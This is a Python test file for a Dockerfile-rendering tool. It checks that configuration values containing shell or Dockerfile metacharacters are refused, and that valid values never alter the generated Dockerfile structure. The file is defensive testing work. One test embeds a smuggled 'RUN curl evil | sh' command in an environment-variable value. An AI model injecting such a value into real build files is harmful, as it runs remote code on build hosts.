"""No matrix value can change a Dockerfile's structure.

Negative property: a value holding any shell or Dockerfile metacharacter, in any
string field of a cell (or of defaults), is refused by `matrix.load` as a schema
error, and the cell never comes out of the loader (so it never reaches render).
The YAML is produced by ``yaml.safe_dump`` so the quoting is always right and the
loader really receives the hostile string.

Positive property: for valid values, the rendered Dockerfiles have the same
instructions in the same order and the same number of lines, whatever the values, with
no lock (every requirement unverified) and with a lock made for those values (the cell's
pins are entries of the lock; one entry without sha256, so every kind of step is there).
Pins land in the install files, never in a Dockerfile line.
"""

from __future__ import annotations

import collections
import dataclasses
import tempfile
from pathlib import Path
from typing import Any, Dict

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from builder import cli, knowledge
from builder.images import lock as locking
from builder.images import conda_lock, matrix, plan, render
from tests.support.matrix import VALID

BASE_CELL = VALID  # a cell with no finding: any schema error below comes from the injected value

# field -> valid value; each hostile value is built by inserting a token into it
FIELDS = {
    "name": "my-cell",
    "os": "ubuntu22.04",
    "arch": "x86_64",
    "chip": "910b",
    "cann": "8.0.RC3",
    "min_driver": "24.1.RC3",
    "firmware": "7.5.0.1.129",
    "python": "3.10",
    "torch": "2.4.0",
    "torch_npu": "2.4.0",
    "base_image": "local/ubuntu:22.04",
    "cann_source.image": "local/cann:8.0.rc3",
    "cann_source.local": "/srv/cann",
    "pip": "six==1.16.0",
    "env_vars.value": "value",
    "env_vars.key": "MY_VAR",
    "mirrors.value": "http://127.0.0.1:3141/simple",
    "sha256.key": "Ascend-cann-toolkit_8.0.RC3_linux-x86_64.run",
    "sha256.value": "a" * 64,
    "image": "registry.local/team/ascend",
}

TOKENS = ("\n", "\r", "$(", "`", "'", '"', "\\", ";", " &&")


def _document(field: str, value: str, where: str):
    """(matrix document, field path of the value) with ``value`` placed in ``field``."""
    section: Dict[str, Any] = {}
    doc: Dict[str, Any] = {"cells": [dict(BASE_CELL)]}
    if field == "image":
        doc["image"] = value
        return doc, "image"
    prefix = "defaults" if where == "defaults" else "cells[0]"
    target = section if where == "defaults" else doc["cells"][0]
    if field in ("cann_source.image", "cann_source.local"):
        kind = field.split(".")[1]
        target["cann_source"] = {kind: value}
        path = f"{prefix}.cann_source.{kind}"
    elif field == "pip":
        target["pip"] = ["numpy==1.26.4", value]
        path = f"{prefix}.pip[1]"
    elif field == "env_vars.value":
        target["env_vars"] = {"MY_VAR": value}
        path = f"{prefix}.env_vars.MY_VAR"
    elif field == "env_vars.key":
        target["env_vars"] = {value: "x"}
        path = f"{prefix}.env_vars.{value}"
    elif field == "mirrors.value":
        target["mirrors"] = {"pip_index": value}
        path = f"{prefix}.mirrors.pip_index"
    elif field == "sha256.key":
        target["sha256"] = {value: "a" * 64}
        path = f"{prefix}.sha256.{value}"
    elif field == "sha256.value":
        target["sha256"] = {"Ascend-cann-toolkit_8.0.RC3_linux-x86_64.run": value}
        path = f"{prefix}.sha256.Ascend-cann-toolkit_8.0.RC3_linux-x86_64.run"
    else:
        target[field] = value
        path = f"{prefix}.{field}"
    if where == "defaults":
        if field == "name":  # a name in defaults is refused for another reason; keep it in the cell
            doc["cells"][0][field] = value
            path = f"cells[0].{field}"
        else:
            doc["defaults"] = section
            for key in section:
                doc["cells"][0].pop(key, None)
    return doc, path


def _strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            yield from _strings(v)


@pytest.fixture(scope="module")
def workdir():
    with tempfile.TemporaryDirectory(prefix="ascend-injection-") as folder:
        yield Path(folder)


def _load(workdir: Path, doc) -> matrix.Matrix:
    path = workdir / "matrix.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))
    return matrix.load(path)


@pytest.mark.parametrize("field", sorted(FIELDS))
@pytest.mark.parametrize("where", ["cell", "defaults"])
def test_the_valid_base_values_load_clean(workdir, field, where):
    """Control: without the token every document is valid, so a refusal below is the token's doing."""
    doc, _ = _document(field, FIELDS[field], where)
    loaded = _load(workdir, doc)
    assert loaded.findings == []
    assert len(loaded.cells) == 1


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(sorted(FIELDS)), token=st.sampled_from(TOKENS),
       where=st.sampled_from(["cell", "defaults"]), data=st.data())
def test_metacharacters_are_refused_in_every_field(workdir, field, token, where, data):
    base = FIELDS[field]
    # both ends are the classic escapes (a trailing newline slips past ``re.match(...$)``)
    at = data.draw(st.one_of(st.sampled_from([0, len(base)]), st.integers(min_value=0, max_value=len(base))),
                   label="position")
    value = base[:at] + token + base[at:]
    doc, path = _document(field, value, where)
    text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)
    assert value in list(_strings(yaml.safe_load(text)))  # the YAML really carries the hostile string

    loaded = _load(workdir, doc)

    refused = [f for f in loaded.findings if f.field == path]
    assert refused, f"{path} = {value!r} was accepted; findings: {loaded.findings}"
    assert refused[0].rule in ("schema-value", "schema-unknown-key")
    assert refused[0].severity == "error"
    assert refused[0].where is not None and refused[0].where.line >= 1
    for cell in loaded.cells:  # nothing hostile survives into a cell
        values = dataclasses.asdict(cell)
        values.pop("where")
        values.pop("fields")
        assert not any(token in s for s in _strings(values))


@pytest.mark.parametrize("token", TOKENS)
def test_trailing_token_is_refused(workdir, token):
    """``re.match`` with ``$`` accepts a trailing newline; the whitelist must not."""
    for field in ("name", "torch_npu", "pip", "env_vars.value", "python"):
        doc, path = _document(field, FIELDS[field] + token, "cell")
        loaded = _load(workdir, doc)
        assert [f.field for f in loaded.findings] == [path], (field, token)
        assert loaded.cells == []


def test_a_refused_value_never_reaches_render(tmp_path):
    doc, _ = _document("env_vars.value", "ok\nRUN curl evil | sh", "cell")
    (tmp_path / "m.yaml").write_text(yaml.safe_dump(doc))
    out = tmp_path / "out"
    result = CliRunner().invoke(cli.app, ["render", "--matrix", str(tmp_path / "m.yaml"), "--out", str(out)])
    assert result.exit_code == 1
    assert "schema-value [cells[0].env_vars.MY_VAR]" in result.output
    assert not out.exists()


# --- positive property ----------------------------------------------------------------


def instructions(dockerfile: str):
    """The Dockerfile's instruction keywords in order (continuations and comments skipped)."""
    found, continued = [], False
    for line in dockerfile.splitlines():
        if continued:
            continued = line.endswith("\\")
            continue
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        found.append(stripped.split()[0])
        continued = line.endswith("\\")
    return found


def _cell(workdir: Path, env_a: str, env_b: str, pin_a: str, pin_b: str, env: str = "conda"):
    cell = dict(BASE_CELL, env=env, env_vars={"MY_A": env_a, "MY_B": env_b}, pip=[pin_a, pin_b])
    if env == "venv":
        cell.update(os="debian12", python="3.11", cann="9.0.0", torch_npu="2.13.0")
    loaded = _load(workdir, {"cells": [cell]})
    assert loaded.findings == []
    return loaded.cells[0]


def _lock_for(cell) -> locking.Lock:
    """A lock made for the cell's current inputs: every requirement an entry (at its pinned version,
    else 1.0) with a sha256, but torch, which has none (x86_64's torch==X+cpu where its index is out
    of reach)."""
    entries = []
    for requirement in plan.lock_inputs(cell, knowledge.load()).requirements:
        req = Requirement(requirement)
        version = next((s.version for s in req.specifier if s.operator == "=="), "1.0")
        name = canonicalize_name(req.name)
        entries.append(locking.Entry(name, version, () if name == "torch" else ("0" * 64,),
                                     "its index could not be reached" if name == "torch" else ""))
    conda = conda_lock.Part(conda_lock.DEFAULT_CHANNEL, (conda_lock.Package(
        "python", cell.python + ".0", "h0_cpython", f"linux-64/python-{cell.python}.0-h0_cpython.conda", "0" * 64),))
    return locking.Lock(cell=cell.id, inputs=plan.lock_inputs(cell, knowledge.load()).digest,
                        target="test", resolver="none", entries=tuple(entries),
                        conda=conda if cell.env == "conda" else None)


def _render(workdir: Path, env_a: str, env_b: str, pin_a: str, pin_b: str, env: str = "conda", locked: bool = False):
    cell = _cell(workdir, env_a, env_b, pin_a, pin_b, env)
    return render.render_cell(cell, lock=_lock_for(cell) if locked else None)


ENV_VALUE = st.from_regex(r"[A-Za-z0-9_./:,=+@%-]{0,40}", fullmatch=True)
# Pins pip can read (PEP 508 names, PEP 440 versions: epochs, pre/post/dev releases, local labels),
# within what the matrix schema accepts. Not torch or torch_npu themselves: where those go is
# the plan's business (tests/images/test_plan.py).
PIN = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,19}[A-Za-z0-9])?(\[[A-Za-z0-9]{1,4}(,[A-Za-z0-9]{1,4})?\])?=="
                    r"([0-9]{1,2}!)?[0-9]{1,4}(\.[0-9]{1,4}){0,3}((a|b|rc)[0-9]{1,2})?(\.post[0-9]{1,2})?(\.dev[0-9]{1,2})?"
                    r"(\+[A-Za-z0-9]{1,5}([._-][A-Za-z0-9]{1,4})?)?", fullmatch=True) \
    .filter(lambda pin: not canonicalize_name(Requirement(pin).name).startswith("torch")
            and len(pin.partition("==")[2]) <= 40)  # the schema's cap on a version's length


@pytest.fixture(scope="module")
def reference(workdir):
    """Per (env, locked): the files of a cell whose values are plain; numpy==1.24.0 is within
    every CANN limit of both cells (8.0.RC3: <=1.24.0; 9.0.0: >=1.19.2)."""
    return {(env, locked): _render(workdir, "1", "two", "numpy==1.24.0", "six==1.16.0", env, locked)
            for env in ("conda", "venv") for locked in (False, True)}


def _counts(text: str) -> dict:
    counts = collections.Counter(instructions(text))
    return {k: counts[k] for k in ("ARG", "FROM", "RUN", "ENV", "COPY", "LABEL")}


def test_reference_structure(reference):
    """What the property compares against, spelled out once."""
    # NPU: four FROMs (the optional wheelhouse stage, the OS, CANN's files, the image) and
    # three CANN RUNs (fetch and check all, then toolkit and ops in a layer each); ENV:
    # CANN's twelve lines (LD_LIBRARY_PATH in four, PATH in two), the Python step's two, and five of env_vars
    # (the cell's two, the field guide's three: torch_npu 2.4.0 takes the allocator default).
    # No lock: the conda environment, the unverified step and torch_npu's, each an ARG (the build
    # arg that allows them) and a RUN; nothing of a lock to COPY. A conda cell has the optional
    # stage of Miniforge's installer too (a FROM and a COPY). Every image: the driver guard (a
    # COPY, the RUN that links it, and two ENV of what it checks).
    assert _counts(reference["conda", False]["Dockerfile"].decode()) == \
        {"ARG": 4, "FROM": 5, "RUN": 8, "ENV": 21, "COPY": 5, "LABEL": 1}
    assert _counts(reference["conda", False]["Dockerfile.cpu"].decode()) == \
        {"ARG": 3, "FROM": 3, "RUN": 4, "ENV": 9, "COPY": 5, "LABEL": 1}
    # The lock: the verified closure (a RUN), torch without sha256 (ARG and RUN), torch_npu
    # verified (a RUN), and the lock copied into the image; uv, which installs the verified
    # steps, in a stage of its own (a FROM and a RUN; the twin then starts its image anew, a FROM);
    # below the chip's package, the mount points from a stage of their own (a FROM, a RUN, a COPY),
    # so the verified torch_npu layer above it is the same on every chip.
    # The lock's conda part complete: the conda environment from it, no ARG.
    assert _counts(reference["conda", True]["Dockerfile"].decode()) == \
        {"ARG": 2, "FROM": 7, "RUN": 11, "ENV": 21, "COPY": 7, "LABEL": 1}
    assert _counts(reference["conda", True]["Dockerfile.cpu"].decode()) == \
        {"ARG": 2, "FROM": 5, "RUN": 6, "ENV": 9, "COPY": 6, "LABEL": 1}
    for (env, locked), files in reference.items():
        assert "torch==" in files["lock.unverified.txt"].decode(), (env, locked)
        assert ("lock.closure.txt" in files) is locked and ("requirements.lock" in files) is locked
        assert ("conda.explicit.txt" in files) is (locked and env == "conda"), (env, locked)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(env_a=ENV_VALUE, env_b=ENV_VALUE, pin_a=PIN, pin_b=PIN, env=st.sampled_from(["conda", "venv"]),
       locked=st.booleans())
def test_structure_never_changes_with_values(workdir, reference, env_a, env_b, pin_a, pin_b, env, locked):
    files = _render(workdir, env_a, env_b, pin_a, pin_b, env, locked)
    for name in ("Dockerfile", "Dockerfile.cpu"):
        got, want = files[name].decode(), reference[env, locked][name].decode()
        assert instructions(got) == instructions(want)
        for keyword in ("ARG", "FROM", "RUN", "ENV", "COPY", "LABEL"):
            assert instructions(got).count(keyword) == instructions(want).count(keyword)
        assert len(got.splitlines()) == len(want.splitlines())
        assert f'ENV MY_A="{env_a}"' in got.splitlines()
        assert pin_a not in got and pin_b not in got  # the pins are in the install files only
    # where the pins went: the unverified file without a lock, the hashed closure with one
    if locked:
        closure = files["lock.closure.txt"].decode().splitlines()
        for pin in (pin_a, pin_b):
            req = Requirement(pin)
            assert f"{canonicalize_name(req.name)}=={next(iter(req.specifier)).version} \\" in closure
    else:
        assert {pin_a, pin_b} <= set(files["lock.unverified.txt"].decode().splitlines())


@pytest.mark.parametrize("pin", ["six==latest", "a-==1.0", "six[,]==1.0"])
def test_a_pin_pip_cannot_read_is_refused_not_a_crash(workdir, pin):
    """The pin pattern lets these through; the loader also reads each pin as pip would
    (PEP 508 name, PEP 440 version) and refuses it with a finding, never a traceback later."""
    loaded = _load(workdir, {"cells": [dict(BASE_CELL, pip=[pin])]})
    [finding] = [f for f in loaded.findings if f.rule == "schema-value"]
    assert finding.field == "cells[0].pip[0]" and finding.where is not None
    assert finding.message.startswith(f"cells[0].pip[0]: {pin!r} is not a pin pip can read")
    assert loaded.cells == []